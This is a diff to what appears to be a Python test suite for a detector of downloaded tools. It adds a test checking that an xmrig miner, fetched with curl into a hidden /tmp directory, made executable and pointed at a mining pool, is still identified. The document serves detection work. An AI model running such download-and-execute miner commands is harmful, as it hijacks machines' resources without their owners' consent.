@@ -174,6 +174,15 @@ def test_wget_download_and_python_download_identities() -> None:
     assert "ngrok" in names(f)
 
 
+def test_download_redirected_to_a_file_keeps_its_identity() -> None:
+    _, f = flow("curl -sL https://example.net/x/xmrig-6.21.0-linux-x64 > /tmp/.k/kw",
+                "chmod +x /tmp/.k/kw; /tmp/.k/kw -o pool.example.org:3333")
+    assert "xmrig" in names(f)
+    _, f = flow("curl -sL https://example.net/x/xmrig-6.21.0-linux-x64 | sha256sum > sums.txt",
+                "cat sums.txt")
+    assert f.events == ()
+
+
 def test_benign_download_run_under_its_name_adds_nothing() -> None:
     _, f = flow("curl -L -o jq https://github.com/jqlang/jq/releases/download/jq-1.7.1/jq-linux-amd64",
                 "chmod +x jq && ./jq --version")
